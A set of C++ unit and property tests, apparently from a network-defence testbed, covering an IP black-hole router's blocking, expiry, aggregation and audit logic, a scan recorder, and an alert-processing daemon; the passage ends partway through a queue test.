  EXPECT_EQ(router.stats(110).prefix_blocks, 0u);
}

TEST(BhrPrefix, ProtectedSpaceRefusesPrefixBlocks) {
  BlackHoleRouter router;
  // Overlapping the protected /16 (from either side) is refused.
  EXPECT_FALSE(router.block_prefix(net::Cidr(net::Ipv4(141, 142, 7, 0), 24), 0, 0,
                                   "oops", "ops"));
  EXPECT_FALSE(router.block_prefix(net::Cidr(net::Ipv4(141, 0, 0, 0), 8), 0, 0,
                                   "oops", "ops"));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(141, 142, 7, 7), 0));
  EXPECT_EQ(router.stats(0).blocks_refused, 2u);
  // The refusals are still audited.
  const auto audit = router.audit_log();
  ASSERT_EQ(audit.size(), 2u);
  EXPECT_FALSE(audit[0].ok);
  EXPECT_EQ(audit[1].prefix_len, 8u);
}

TEST(BhrPrefix, PrefixSupersedesContainedHostBlocks) {
  BlackHoleRouter router;
  const net::Ipv4 inside(203, 9, 9, 9);
  ASSERT_TRUE(router.block(inside, 0, 40, "host", "a"));
  const net::Cidr net24(net::Ipv4(203, 9, 9, 0), 24);
  ASSERT_TRUE(router.block_prefix(net24, 5, 0, "net", "b"));
  // The host entry was superseded: queries now resolve to the prefix...
  const auto entry = router.query(inside, 6);
  ASSERT_TRUE(entry.has_value());
  EXPECT_EQ(entry->reason, "net");
  // ...and the host's old TTL no longer reaps anything at t=40.
  EXPECT_EQ(router.expire(1000), 0u);
  EXPECT_TRUE(router.is_blocked(inside, 1000));
}

TEST(BhrPrefix, HostReblockInsideExpiredPrefixSurvivesReap) {
  BlackHoleRouter router;
  const net::Cidr net24(net::Ipv4(203, 4, 4, 0), 24);
  const net::Ipv4 survivor(203, 4, 4, 200);
  ASSERT_TRUE(router.block_prefix(net24, 0, 50, "net", "ops"));
  // A later, stronger host block inside the TTL'd prefix.
  ASSERT_TRUE(router.block(survivor, 10, 0, "repeat offender", "ids"));
  // The prefix reap clears only words still carrying the prefix's expiry.
  EXPECT_EQ(router.expire(50), 1u);
  EXPECT_TRUE(router.is_blocked(survivor, 51));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(203, 4, 4, 7), 51));
  EXPECT_EQ(router.active_blocks(51), 1u);
}

TEST(BhrPrefix, UnblockPrefixClearsRangeAndContainedEntries) {
  BlackHoleRouter router;
  const net::Cidr net20(net::Ipv4(203, 32, 16, 0), 20);
  ASSERT_TRUE(router.block(net::Ipv4(203, 32, 17, 1), 0, 0, "host", "a"));
  ASSERT_TRUE(router.block_prefix(net::Cidr(net::Ipv4(203, 32, 18, 0), 24), 0, 0,
                                  "sub", "a"));
  ASSERT_TRUE(router.unblock_prefix(net20, 5, "ops"));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(203, 32, 17, 1), 5));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(203, 32, 18, 9), 5));
  EXPECT_EQ(router.active_blocks(5), 0u);
  EXPECT_EQ(router.stats(5).prefix_blocks, 0u);
  // Nothing in range anymore: a second unblock is a refused no-op.
  EXPECT_FALSE(router.unblock_prefix(net20, 6, "ops"));
}

TEST(BhrAudit, RingCapsAndCountsDrops) {
  BlackHoleRouter::Options options;
  options.audit_capacity = 4;
  BlackHoleRouter router(options);
  for (std::uint32_t i = 0; i < 10; ++i) {
    router.block(net::Ipv4(203, 1, 1, static_cast<std::uint8_t>(i)), i, 0, "r", "c");
  }
  const auto audit = router.audit_log();
  ASSERT_EQ(audit.size(), 4u);
  // Oldest-first linearization of the surviving tail (calls 6..9).
  for (std::uint32_t i = 0; i < 4; ++i) {
    EXPECT_EQ(audit[i].ts, static_cast<util::SimTime>(6 + i));
    EXPECT_EQ(audit[i].source, net::Ipv4(203, 1, 1, static_cast<std::uint8_t>(6 + i)));
  }
  const auto stats = router.stats(10);
  EXPECT_EQ(stats.api_calls, 10u);  // total ever, not just retained
  EXPECT_EQ(stats.audit_dropped, 6u);
}

TEST(BhrAggregation, LossyDensityCollapsesScannerNetAndSynthesizesEntry) {
  BlackHoleRouter::Options options;
  options.aggregation_density = 0.5;  // collapse at 128 permanent hosts
  BlackHoleRouter router(options);
  const std::uint32_t base = net::Ipv4(203, 55, 1, 0).value();
  // One TTL'd host that the collapse will absorb.
  ASSERT_TRUE(router.block(net::Ipv4(base + 250), 0, 500, "slow", "ids"));
  for (std::uint32_t i = 0; i < 128; ++i) {
    ASSERT_TRUE(router.block(net::Ipv4(base + i), 1, 0, "scan", "ids"));
  }
  const auto stats = router.stats(1);
  EXPECT_EQ(stats.aggregated_covers, 1u);
  EXPECT_EQ(stats.aggregated_absorbed, 1u);
  EXPECT_EQ(stats.prefix_blocks, 1u);
  // The whole /24 is now dark, including never-blocked hosts.
  EXPECT_TRUE(router.is_blocked(net::Ipv4(base + 200), 1));
  // The synthesized aggregate is permanent: nothing ever expires from it.
  EXPECT_EQ(router.expire(10000), 0u);
  EXPECT_TRUE(router.is_blocked(net::Ipv4(base + 250), 10000));
  const auto entry = router.query(net::Ipv4(base + 200), 1);
  ASSERT_TRUE(entry.has_value());
  EXPECT_EQ(entry->requested_by, "bhr:aggregator");
  // The trie holds one cover, no per-host words for the net.
  EXPECT_EQ(router.trie().stats().covers, 1u);
}

TEST(BhrAggregation, ExactDensityKeepsPerHostMetadata) {
  BlackHoleRouter router;  // default: exact (1.0)
  const std::uint32_t base = net::Ipv4(203, 66, 2, 0).value();
  for (std::uint32_t i = 0; i < 256; ++i) {
    ASSERT_TRUE(router.block(net::Ipv4(base + i), 2, 0, "scan", "ids"));
  }
  const auto stats = router.stats(2);
  EXPECT_EQ(stats.aggregated_covers, 1u);  // full /24 collapsed (lossless)
  EXPECT_EQ(stats.aggregated_absorbed, 0u);
  // Per-host audit metadata survives the collapse: query answers with the
  // host's own entry, not the synthetic aggregate.
  const auto entry = router.query(net::Ipv4(base + 17), 2);
  ASSERT_TRUE(entry.has_value());
  EXPECT_EQ(entry->requested_by, "ids");
  EXPECT_EQ(router.active_blocks(2), 256u);
  // Unblocking one host punches through the cover for that host only.
  ASSERT_TRUE(router.unblock(net::Ipv4(base + 17), 3, "ops"));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(base + 17), 3));
  EXPECT_TRUE(router.is_blocked(net::Ipv4(base + 18), 3));
}

}  // namespace
}  // namespace at
