// BlackHoleRouter traffic-plane concurrency: filter()/filter_batch()
// readers racing a live mutator thread through the public API verbs.
// Functional assertions are final-consistency checks; the races themselves
// are what the TSan CI stage (tools/ci_check.sh) is after.

#include <gtest/gtest.h>

#include <atomic>
#include <cstdint>
#include <thread>
#include <vector>

#include "bhr/bhr.hpp"
#include "net/flow.hpp"

namespace at {
namespace {

net::Flow probe_from(std::uint32_t src) {
  net::Flow flow;
  flow.ts = 0;
  flow.src = net::Ipv4(src);
  flow.dst = net::Ipv4(141, 142, 0, 1);
  return flow;
}

// Scalar and batched filtering must agree verdict-for-verdict when nothing
// is mutating.
TEST(BhrConcurrent, FilterBatchMatchesScalarFilter) {
  bhr::BlackHoleRouter batched;
  bhr::BlackHoleRouter scalar;
  std::vector<net::Flow> flows;
  for (std::uint32_t i = 0; i < 4096; ++i) {
    const std::uint32_t src = net::Ipv4(203, static_cast<std::uint8_t>(i % 7),
                                        static_cast<std::uint8_t>(i % 251),
                                        static_cast<std::uint8_t>(i % 256))
                                  .value();
    if (i % 3 == 0) {
      batched.block(net::Ipv4(src), 0, i % 5 == 0 ? 0 : 100, "scan", "test");
      scalar.block(net::Ipv4(src), 0, i % 5 == 0 ? 0 : 100, "scan", "test");
    }
    flows.push_back(probe_from(src));
  }
  std::vector<std::uint8_t> out(flows.size(), 0xee);
  const std::size_t dropped = batched.filter_batch(flows, out);
  std::size_t scalar_dropped = 0;
  for (std::size_t i = 0; i < flows.size(); ++i) {
    const bool drop = scalar.filter(flows[i]);
    scalar_dropped += drop ? 1 : 0;
    ASSERT_EQ(out[i] != 0, drop) << "flow " << i;
  }
  EXPECT_EQ(dropped, scalar_dropped);
  EXPECT_EQ(batched.dropped_flows(), scalar.dropped_flows());
  EXPECT_EQ(batched.passed_flows(), scalar.passed_flows());
}

// Readers hammer filter()/filter_batch() while one mutator cycles hosts
// and prefixes through block/unblock/expire. Verdicts under the race may
// be either side of each transition; what must hold is memory safety
// (TSan/ASan) and exact counter accounting.
TEST(BhrConcurrent, ReadersRaceMutator) {
  bhr::BlackHoleRouter router;
  std::atomic<bool> stop{false};
  constexpr int kReaders = 4;
  constexpr std::uint32_t kHosts = 512;

  std::vector<net::Flow> flows;
  for (std::uint32_t i = 0; i < kHosts; ++i) {
    flows.push_back(probe_from(net::Ipv4(198, 18, static_cast<std::uint8_t>(i >> 8),
                                         static_cast<std::uint8_t>(i & 0xff))
                                   .value()));
  }

  std::vector<std::thread> readers;
  std::vector<std::uint64_t> seen_drops(kReaders, 0);
  readers.reserve(kReaders);
  for (int r = 0; r < kReaders; ++r) {
    readers.emplace_back([&, r] {
      std::vector<std::uint8_t> out(flows.size());
      std::uint64_t drops = 0;
      while (!stop.load(std::memory_order_acquire)) {
        if (r % 2 == 0) {
          drops += router.filter_batch(flows, out);
        } else {
          for (const net::Flow& flow : flows) drops += router.filter(flow) ? 1 : 0;
        }
      }
      seen_drops[static_cast<std::size_t>(r)] = drops;
    });
  }

  // Mutator: block/unblock host waves, lay down and reap a TTL'd prefix,
  // advance time and expire. All verbs, many structural transitions
  // (leaf creation, cover expansion, pruning, RCU retirement).
  for (int round = 0; round < 60; ++round) {
    const util::SimTime now = round * 10;
    for (std::uint32_t i = 0; i < kHosts; i += 2) {
      router.block(flows[i].src, now, (i % 8 == 0) ? 0 : 25, "wave", "mutator");
    }
    router.block_prefix(net::Cidr(net::Ipv4(198, 18, 1, 0), 24), now, 15, "net", "mutator");
    router.expire(now + 5);
    for (std::uint32_t i = 0; i < kHosts; i += 4) {
      router.unblock(flows[i].src, now + 6, "mutator");
    }
    router.unblock_prefix(net::Cidr(net::Ipv4(198, 18, 1, 0), 24), now + 7, "mutator");
    router.expire(now + 9);
  }
  stop.store(true, std::memory_order_release);
  for (auto& t : readers) t.join();

  // Exact accounting: every reader verdict hit exactly one counter.
  std::uint64_t reader_drops = 0;
  for (const std::uint64_t d : seen_drops) reader_drops += d;
  EXPECT_EQ(router.dropped_flows(), reader_drops);

  // Quiesced: remaining blocks answer consistently through both paths.
  const util::SimTime end = 600;
  router.expire(end);
  std::vector<std::uint8_t> out(flows.size());
  std::vector<net::Flow> timed = flows;
  for (net::Flow& flow : timed) flow.ts = end;
  router.filter_batch(timed, out);
  for (std::size_t i = 0; i < timed.size(); ++i) {
    EXPECT_EQ(out[i] != 0, router.is_blocked(timed[i].src, end)) << "host " << i;
  }
}

}  // namespace
}  // namespace at
