// Property tests for the BHR's TTL expiry machinery and the hybrid scan
// recorder.
//
// Expiry rides the sim timing wheel (one scheduled event per TTL'd block,
// cancelled in O(1) on re-block/unblock — the successor of the seed's
// lazy-deleted min-heap); a naive model (map of expiry times, full scan
// each query) is the oracle. Random traces mix TTL'd blocks, permanent
// blocks, re-blocks that extend or shorten TTLs, unblocks, and
// out-of-order expire() ticks.

#include <gtest/gtest.h>

#include <cstdint>
#include <map>
#include <vector>

#include "bhr/bhr.hpp"
#include "util/rng.hpp"

namespace at {
namespace {

net::Ipv4 external_ip(std::uint32_t n) {
  // 203.x.y.z — safely outside the protected /16.
  return net::Ipv4(203, static_cast<std::uint8_t>(n >> 16),
                   static_cast<std::uint8_t>(n >> 8), static_cast<std::uint8_t>(n));
}

// Naive reference: ip -> (expires_at, permanent?) with full-scan queries.
class NaiveBlockModel {
 public:
  void block(std::uint32_t ip, util::SimTime now, util::SimTime ttl) {
    table_[ip] = ttl > 0 ? now + ttl : 0;
  }
  bool unblock(std::uint32_t ip) { return table_.erase(ip) > 0; }
  std::size_t expire(util::SimTime now) {
    std::size_t removed = 0;
    for (auto it = table_.begin(); it != table_.end();) {
      if (it->second != 0 && it->second <= now) {
        it = table_.erase(it);
        ++removed;
      } else {
        ++it;
      }
    }
    return removed;
  }
  [[nodiscard]] std::size_t active(util::SimTime now) const {
    std::size_t count = 0;
    for (const auto& [ip, expiry] : table_) {
      if (expiry == 0 || expiry > now) ++count;
    }
    return count;
  }
  [[nodiscard]] bool is_blocked(std::uint32_t ip, util::SimTime now) const {
    const auto it = table_.find(ip);
    return it != table_.end() && (it->second == 0 || it->second > now);
  }

 private:
  std::map<std::uint32_t, util::SimTime> table_;
};

class BhrExpiryProperty : public ::testing::TestWithParam<int> {};

TEST_P(BhrExpiryProperty, HeapMatchesNaiveModelOnRandomTraces) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 40503 + 7);
  bhr::BlackHoleRouter router;
  NaiveBlockModel model;
  util::SimTime now = 0;
  constexpr std::uint32_t kPopulation = 300;

  for (int step = 0; step < 4000; ++step) {
    now += rng.uniform_int(0, 30);
    const auto ip = static_cast<std::uint32_t>(rng.uniform_int(0, kPopulation - 1));
    const auto roll = rng.uniform_int(0, 99);
    if (roll < 55) {
      // TTL'd block; frequent re-blocks of the same small population make
      // most heap items stale (the lazy-deletion stress).
      const util::SimTime ttl = rng.uniform_int(1, 200);
      router.block(external_ip(ip), now, ttl, "scan", "test");
      model.block(ip, now, ttl);
    } else if (roll < 62) {
      router.block(external_ip(ip), now, 0, "manual", "test");  // permanent
      model.block(ip, now, 0);
    } else if (roll < 75) {
      EXPECT_EQ(router.unblock(external_ip(ip), now, "test"), model.unblock(ip));
    } else if (roll < 90) {
      EXPECT_EQ(router.expire(now), model.expire(now));
    }
    EXPECT_EQ(router.is_blocked(external_ip(ip), now), model.is_blocked(ip, now));
    if (step % 16 == 0) {
      EXPECT_EQ(router.active_blocks(now), model.active(now)) << "step " << step;
    }
  }
  // Final reconciliation: everything TTL'd eventually expires.
  now += 100000;
  EXPECT_EQ(router.expire(now), model.expire(now));
  EXPECT_EQ(router.active_blocks(now), model.active(now));
}

INSTANTIATE_TEST_SUITE_P(Traces, BhrExpiryProperty, ::testing::Range(0, 8));

TEST(BhrExpiry, ReblockExtendsAndOldHeapItemGoesStale) {
  bhr::BlackHoleRouter router;
  const net::Ipv4 ip = external_ip(1);
  ASSERT_TRUE(router.block(ip, 0, 10, "a", "t"));
  ASSERT_TRUE(router.block(ip, 5, 100, "b", "t"));  // extends to 105
  // The original item surfaces at t=10 but is stale — nothing expires.
  EXPECT_EQ(router.expire(10), 0u);
  EXPECT_TRUE(router.is_blocked(ip, 10));
  EXPECT_EQ(router.active_blocks(10), 1u);
  EXPECT_EQ(router.expire(105), 1u);
  EXPECT_FALSE(router.is_blocked(ip, 105));
}

TEST(BhrExpiry, PermanentBlocksNeverExpire) {
  bhr::BlackHoleRouter router;
  ASSERT_TRUE(router.block(external_ip(1), 0, 0, "perm", "t"));
  ASSERT_TRUE(router.block(external_ip(2), 0, 50, "ttl", "t"));
  EXPECT_EQ(router.expire(1000000), 1u);
  EXPECT_EQ(router.active_blocks(1000000), 1u);
  EXPECT_TRUE(router.is_blocked(external_ip(1), 1000000));
}

// --- hybrid scan recorder ------------------------------------------------

net::Flow probe(std::uint32_t src, std::uint16_t host, util::SimTime ts) {
  net::Flow flow;
  flow.ts = ts;
  flow.src = external_ip(src);
  flow.dst = net::blocks::ncsa16().host(host);
  flow.dst_port = 22;
  flow.state = net::ConnState::kAttempt;
  return flow;
}

TEST(ScanRecorderHybrid, SmallSetCountsExactlyAndDoesNotPromote) {
  bhr::ScanRecorder recorder;
  // 16 distinct targets, each probed twice, in interleaved order.
  for (int pass = 0; pass < 2; ++pass) {
    for (std::uint16_t h = 100; h < 116; ++h) {
      recorder.record(probe(1, h, pass));
    }
  }
  EXPECT_EQ(recorder.promoted_sources(), 0u);
  const auto top = recorder.top_scanners(1);
  ASSERT_EQ(top.size(), 1u);
  EXPECT_EQ(top[0].probes, 32u);
  EXPECT_EQ(top[0].distinct_targets, 16u);
}

TEST(ScanRecorderHybrid, PromotionAtSeventeenthTargetKeepsExactCounts) {
  bhr::ScanRecorder recorder;
  util::Rng rng(99);
  // Reference distinct-set per source.
  std::map<std::uint32_t, std::vector<bool>> seen;
  std::map<std::uint32_t, std::size_t> distinct;
  for (int i = 0; i < 20000; ++i) {
    const auto src = static_cast<std::uint32_t>(rng.uniform_int(0, 4));
    const auto host = static_cast<std::uint16_t>(rng.uniform_int(1, 4000));
    recorder.record(probe(src, host, i));
    auto& bits = seen[src];
    if (bits.empty()) bits.resize(65536, false);
    if (!bits[host]) {
      bits[host] = true;
      ++distinct[src];
    }
  }
  EXPECT_EQ(recorder.promoted_sources(), 5u);  // all five crossed 16 targets
  for (const auto& profile : recorder.top_scanners(10)) {
    EXPECT_EQ(profile.distinct_targets, distinct[profile.source.value() & 0xffffffu])
        << profile.source.str();
  }
}

TEST(ScanRecorderHybrid, OneProbeSourcesStayInline) {
  bhr::ScanRecorder recorder;
  for (std::uint32_t src = 0; src < 5000; ++src) {
    recorder.record(probe(src, static_cast<std::uint16_t>(src & 0xfff), 1));
  }
  EXPECT_EQ(recorder.distinct_sources(), 5000u);
  EXPECT_EQ(recorder.promoted_sources(), 0u);
}

TEST(ScanRecorderHybrid, TopScannersBreaksEqualCountTiesByAscendingSource) {
  bhr::ScanRecorder recorder;
  // Three tiers of equal-probe-count sources, recorded in an order chosen
  // to disagree with the documented tie-break (descending addresses, tiers
  // interleaved) so a ranking that leaks unordered_map iteration order
  // fails. Regression for the determinism contract on top_scanners().
  const std::uint32_t tier3[] = {9, 4, 7};  // 3 probes each
  const std::uint32_t tier2[] = {8, 2, 5};  // 2 probes each
  const std::uint32_t tier1[] = {6, 1, 3};  // 1 probe each
  for (int pass = 0; pass < 3; ++pass) {
    for (const std::uint32_t src : tier3) recorder.record(probe(src, 10, pass));
    if (pass < 2) {
      for (const std::uint32_t src : tier2) recorder.record(probe(src, 10, pass));
    }
    if (pass < 1) {
      for (const std::uint32_t src : tier1) recorder.record(probe(src, 10, pass));
    }
  }
  const auto top = recorder.top_scanners(9);
  ASSERT_EQ(top.size(), 9u);
  const std::uint32_t expected[] = {4, 7, 9, 2, 5, 8, 1, 3, 6};
  for (std::size_t i = 0; i < 9; ++i) {
    EXPECT_EQ(top[i].source, external_ip(expected[i])) << "rank " << i;
    EXPECT_EQ(top[i].probes, 3u - i / 3) << "rank " << i;
  }
  // A shorter k truncates the same total order.
  const auto top4 = recorder.top_scanners(4);
  ASSERT_EQ(top4.size(), 4u);
  for (std::size_t i = 0; i < 4; ++i) EXPECT_EQ(top4[i].source, external_ip(expected[i]));
}

}  // namespace
}  // namespace at
