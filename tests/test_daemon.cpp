// DetectionDaemon lifecycle and typed alert-queue behavior: graceful drain
// emits lifecycle alerts and a verdict stream identical to the serial
// AlertPipeline oracle; a slow consumer produces producer-side rejection
// (bounded rings, edge-triggered overflow alerts) instead of unbounded
// queueing; category masks drain selectively while preserving order; and
// eviction checkpoints complete in ordinal order.

#include <gtest/gtest.h>

#include <atomic>
#include <memory>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "alerts/queue.hpp"
#include "bhr/bhr.hpp"
#include "detect/detector.hpp"
#include "testbed/daemon.hpp"
#include "testbed/pipeline.hpp"

namespace at::testbed {
namespace {

alerts::Alert make_alert(util::SimTime ts, alerts::AlertType type, std::string host,
                         std::optional<net::Ipv4> src = std::nullopt) {
  alerts::Alert alert;
  alert.ts = ts;
  alert.type = type;
  alert.host = std::move(host);
  alert.src = src;
  return alert;
}

/// A hand-rolled timeline with enough variety to exercise filtering,
/// multiple entities, multiple firing detectors, and a BHR block.
std::vector<alerts::Alert> mixed_timeline() {
  std::vector<alerts::Alert> alerts;
  const auto external = net::Ipv4::parse("203.0.113.7");
  const auto second = net::Ipv4::parse("198.51.100.9");
  for (int i = 0; i < 200; ++i) {
    const auto ts = static_cast<util::SimTime>(10 + i * 7);
    switch (i % 5) {
      case 0:
        alerts.push_back(make_alert(ts, alerts::AlertType::kLoginFailure, "pg-1", external));
        break;
      case 1:
        alerts.push_back(make_alert(ts, alerts::AlertType::kPortScan, "", external));
        break;
      case 2:
        alerts.push_back(make_alert(ts, alerts::AlertType::kNewBinaryExecuted, "pg-2"));
        break;
      case 3:
        alerts.push_back(
            make_alert(ts, alerts::AlertType::kRemoteCodeExec, "pg-" + std::to_string(i % 7), second));
        break;
      default:
        alerts.push_back(make_alert(ts, alerts::AlertType::kLoginSuccess, "pg-3"));
        break;
    }
  }
  return alerts;
}

void add_detectors(auto& sink) {
  sink.add_detector("critical-alert",
                    [] { return std::make_unique<detect::CriticalAlertDetector>(); });
  sink.add_detector("threshold", [] {
    return std::make_unique<detect::ThresholdDetector>(alerts::Severity::kCritical);
  });
}

TEST(DaemonOracle, DrainedVerdictStreamMatchesSerialPipeline) {
  const auto timeline = mixed_timeline();

  bhr::BlackHoleRouter serial_router;
  AlertPipeline serial(PipelineConfig{}, &serial_router);
  add_detectors(serial);
  for (const auto& alert : timeline) serial.on_alert(alert);

  DaemonConfig config;
  config.shards = 4;
  config.ring_capacity = 16;  // small rings force real backpressure cycling
  bhr::BlackHoleRouter router;
  DetectionDaemon daemon(config, &router);
  add_detectors(daemon);
  for (const auto& alert : timeline) {
    const SubmitResult result = daemon.submit(alert);
    EXPECT_NE(result, SubmitResult::kRejected);  // blocking submit retries
    EXPECT_NE(result, SubmitResult::kStopped);
  }
  daemon.drain_idle();

  const auto verdicts = daemon.drain_alerts(alerts::DaemonAlert::kVerdict);
  const auto& expected = serial.notifications();
  ASSERT_EQ(verdicts.size(), expected.size());
  std::uint64_t last_seq = 0;
  for (std::size_t i = 0; i < verdicts.size(); ++i) {
    SCOPED_TRACE("verdict " + std::to_string(i));
    const auto& verdict = static_cast<const alerts::VerdictAlert&>(*verdicts[i]);
    EXPECT_EQ(verdict.category(), alerts::DaemonAlert::kVerdict);
    EXPECT_GE(verdict.seq, last_seq);  // seq order == serial emit order
    last_seq = verdict.seq;
    EXPECT_EQ(verdict.ts, expected[i].ts);
    EXPECT_EQ(verdict.entity, expected[i].entity);
    EXPECT_EQ(verdict.detector, expected[i].detector);
    EXPECT_EQ(verdict.reason, expected[i].reason);
    EXPECT_EQ(verdict.score, expected[i].score);
    EXPECT_EQ(verdict.source, expected[i].source);
  }

  // The BHR audit trail must be byte-identical too: same blocks, same
  // order, same reasons and client identity.
  const auto& audit = router.audit_log();
  const auto& serial_audit = serial_router.audit_log();
  ASSERT_EQ(audit.size(), serial_audit.size());
  for (std::size_t i = 0; i < audit.size(); ++i) {
    SCOPED_TRACE("api call " + std::to_string(i));
    EXPECT_EQ(audit[i].ts, serial_audit[i].ts);
    EXPECT_EQ(audit[i].method, serial_audit[i].method);
    EXPECT_EQ(audit[i].source, serial_audit[i].source);
    EXPECT_EQ(audit[i].client, serial_audit[i].client);
    EXPECT_EQ(audit[i].ok, serial_audit[i].ok);
  }

  // One BhrActionAlert per block call, all marked accepted/refused as the
  // router reported.
  const auto actions = daemon.drain_alerts(alerts::DaemonAlert::kBhr);
  EXPECT_EQ(actions.size(), audit.size());

  const auto stats = daemon.stats();
  EXPECT_EQ(stats.submitted, serial.alerts_in());
  EXPECT_EQ(stats.kept, serial.alerts_after_filter());
  EXPECT_EQ(stats.filtered, serial.alerts_in() - serial.alerts_after_filter());
  EXPECT_EQ(stats.verdicts, expected.size());
  EXPECT_EQ(stats.tracked_entities, serial.tracked_entities());
  EXPECT_LE(stats.max_ring_depth, stats.ring_capacity);
}

TEST(DaemonLifecycle, StartDrainStopAlertSequence) {
  DaemonConfig config;
  config.shards = 2;
  bhr::BlackHoleRouter router;
  DetectionDaemon daemon(config, &router);
  add_detectors(daemon);

  EXPECT_FALSE(daemon.running());
  EXPECT_EQ(daemon.try_submit(make_alert(5, alerts::AlertType::kLoginFailure, "pg-1")),
            SubmitResult::kAccepted);
  EXPECT_TRUE(daemon.running());
  daemon.drain_idle();
  daemon.stop();
  EXPECT_FALSE(daemon.running());

  // Stopped daemons refuse instead of queueing.
  EXPECT_EQ(daemon.try_submit(make_alert(6, alerts::AlertType::kLoginFailure, "pg-1")),
            SubmitResult::kStopped);

  const auto snapshots = daemon.drain_alerts(alerts::DaemonAlert::kStats);
  ASSERT_EQ(snapshots.size(), 1u);
  const auto& snapshot = static_cast<const alerts::StatsAlert&>(*snapshots.front());
  EXPECT_EQ(snapshot.stats.submitted, 1u);
  EXPECT_EQ(snapshot.stats.kept, 1u);

  const auto lifecycle = daemon.drain_alerts(alerts::DaemonAlert::kLifecycle);
  ASSERT_EQ(lifecycle.size(), 3u);
  const auto phase = [&](std::size_t i) {
    return static_cast<const alerts::LifecycleAlert&>(*lifecycle[i]).phase;
  };
  EXPECT_EQ(phase(0), alerts::LifecycleAlert::Phase::kStarted);
  EXPECT_EQ(phase(1), alerts::LifecycleAlert::Phase::kDrained);
  EXPECT_EQ(phase(2), alerts::LifecycleAlert::Phase::kStopped);

  // Idempotent: a second stop posts nothing new.
  daemon.stop();
  EXPECT_TRUE(daemon.drain_alerts(alerts::DaemonAlert::kLifecycle).empty());
}

/// Blocks every observe() until released: a stand-in for a consumer that
/// cannot keep up with the producers.
class GateDetector final : public detect::Detector {
 public:
  explicit GateDetector(std::atomic<bool>& open) : open_(&open) {}
  [[nodiscard]] std::string name() const override { return "gate"; }
  void reset() override {}
  std::optional<detect::Detection> observe(const alerts::Alert&, std::size_t) override {
    while (!open_->load(std::memory_order_acquire)) std::this_thread::yield();
    return std::nullopt;
  }

 private:
  std::atomic<bool>* open_;
};

TEST(DaemonBackpressure, SlowConsumerBoundsMemoryAndRejectsAtEdge) {
  std::atomic<bool> gate{false};
  DaemonConfig config;
  config.shards = 1;
  config.ring_capacity = 8;
  config.pipeline.entity_idle_ttl = 0;  // no checkpoints in this test
  DetectionDaemon daemon(config, nullptr);
  daemon.add_detector("gate", [&gate] { return std::make_unique<GateDetector>(gate); });

  // With the worker wedged on the first alert, the 8-slot ring must refuse
  // within a handful of submits — never queue unboundedly.
  std::optional<alerts::Alert> rejected;
  int accepted = 0;
  for (int i = 0; i < 64 && !rejected; ++i) {
    auto alert = make_alert(100 + i, alerts::AlertType::kNewBinaryExecuted, "pg-1");
    const SubmitResult result = daemon.try_submit(std::move(alert));
    if (result == SubmitResult::kRejected) {
      rejected = std::move(alert);  // moved back by the rvalue overload
    } else {
      ASSERT_EQ(result, SubmitResult::kAccepted);
      ++accepted;
    }
  }
  ASSERT_TRUE(rejected.has_value());
  EXPECT_EQ(rejected->type, alerts::AlertType::kNewBinaryExecuted);
  EXPECT_LE(accepted, 8);

  const auto warnings = daemon.drain_alerts(alerts::DaemonAlert::kError);
  ASSERT_EQ(warnings.size(), 1u);  // edge-triggered: one per episode
  const auto& overflow = static_cast<const alerts::RingOverflowAlert&>(*warnings.front());
  EXPECT_EQ(overflow.shard, 0u);
  EXPECT_GE(overflow.rejected_total, 1u);

  {
    const auto stats = daemon.stats();
    EXPECT_GE(stats.rejected, 1u);
    EXPECT_LE(stats.max_ring_depth, 8u);
    EXPECT_EQ(stats.submitted, static_cast<std::uint64_t>(accepted));
  }

  // Release the consumer: the rejected alert (untouched by the refusal)
  // goes through on a blocking retry and everything drains.
  gate.store(true, std::memory_order_release);
  EXPECT_EQ(daemon.submit(std::move(*rejected)), SubmitResult::kAccepted);
  daemon.drain_idle();
  const auto stats = daemon.stats();
  EXPECT_EQ(stats.submitted, static_cast<std::uint64_t>(accepted) + 1);
  EXPECT_EQ(stats.kept, stats.submitted);
}

TEST(DaemonCheckpoints, CompleteInOrdinalOrderAndEvict) {
  DaemonConfig config;
  config.shards = 4;
  config.pipeline.entity_idle_ttl = 50;
  config.pipeline.eviction_check_every = 8;
  DetectionDaemon daemon(config, nullptr);
  add_detectors(daemon);

  // 32 kept alerts, each on its own entity, timestamps far enough apart
  // that earlier entities idle out: 32/8 = 4 checkpoints.
  for (int i = 0; i < 32; ++i) {
    const auto alert = make_alert(i * 20, alerts::AlertType::kLoginFailure,
                                  "host-" + std::to_string(i));
    ASSERT_EQ(daemon.submit(alert), SubmitResult::kAccepted);
  }
  daemon.drain_idle();

  const auto progress = daemon.drain_alerts(alerts::DaemonAlert::kProgress);
  ASSERT_EQ(progress.size(), 4u);
  for (std::size_t i = 0; i < progress.size(); ++i) {
    const auto& checkpoint = static_cast<const alerts::CheckpointAlert&>(*progress[i]);
    EXPECT_EQ(checkpoint.ordinal, i + 1);
  }

  const auto stats = daemon.stats();
  EXPECT_EQ(stats.checkpoints, 4u);
  EXPECT_GT(stats.evicted_entities, 0u);
  EXPECT_EQ(stats.tracked_entities + stats.evicted_entities, 32u);
}

TEST(DaemonSubmit, PeriodicScanRepeatsAreFiltered) {
  DaemonConfig config;
  config.shards = 2;
  DetectionDaemon daemon(config, nullptr);
  const auto scanner = net::Ipv4::parse("203.0.113.50");
  EXPECT_EQ(daemon.try_submit(make_alert(10, alerts::AlertType::kPortScan, "", scanner)),
            SubmitResult::kAccepted);
  EXPECT_EQ(daemon.try_submit(make_alert(20, alerts::AlertType::kPortScan, "", scanner)),
            SubmitResult::kFiltered);
  daemon.drain_idle();
  const auto stats = daemon.stats();
  EXPECT_EQ(stats.submitted, 2u);
  EXPECT_EQ(stats.kept, 1u);
  EXPECT_EQ(stats.filtered, 1u);
}

TEST(AlertQueueMask, SelectiveDrainPreservesResidualOrder) {
  alerts::AlertQueue queue;
  const auto post = [&queue](auto alert, util::SimTime ts) {
    alert->ts = ts;
    queue.post(std::move(alert));
  };
  post(std::make_unique<alerts::VerdictAlert>(), 1);
  post(std::make_unique<alerts::WorkerErrorAlert>(), 2);
  post(std::make_unique<alerts::CheckpointAlert>(), 3);
  post(std::make_unique<alerts::VerdictAlert>(), 4);
  post(std::make_unique<alerts::LifecycleAlert>(), 5);
  EXPECT_EQ(queue.posted(), 5u);
